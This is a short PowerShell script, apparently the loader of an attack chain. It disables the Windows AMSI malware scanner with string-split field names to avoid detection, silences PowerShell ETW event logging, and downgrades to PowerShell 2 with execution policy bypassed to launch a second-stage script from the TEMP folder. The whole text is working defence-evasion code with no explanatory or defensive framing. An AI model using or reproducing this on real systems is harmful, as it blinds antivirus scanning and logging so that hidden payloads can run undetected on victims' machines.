[Ref].Assembly.GetType('System.Management.Automation.' + 'Amsi' + 'Utils').GetField('amsi' + 'InitFailed', 'NonPublic,Static').SetValue($null, $true)

# quiet the PowerShell ETW provider for this process
$etwField = [Ref].Assembly.GetType('System.Management.Automation.Tracing.PSEtwLogProvider').GetField('etwProvider', 'NonPublic,Static')
$dummy = New-Object System.Diagnostics.Eventing.EventProvider -ArgumentList @([Guid]::NewGuid())
$etwField.SetValue($null, $dummy)

# and run the second stage where there is no AMSI at all
$stage2 = "$env:TEMP\s2.ps1"
powershell.exe -Version 2 -NoProfile -ExecutionPolicy Bypass -File $stage2
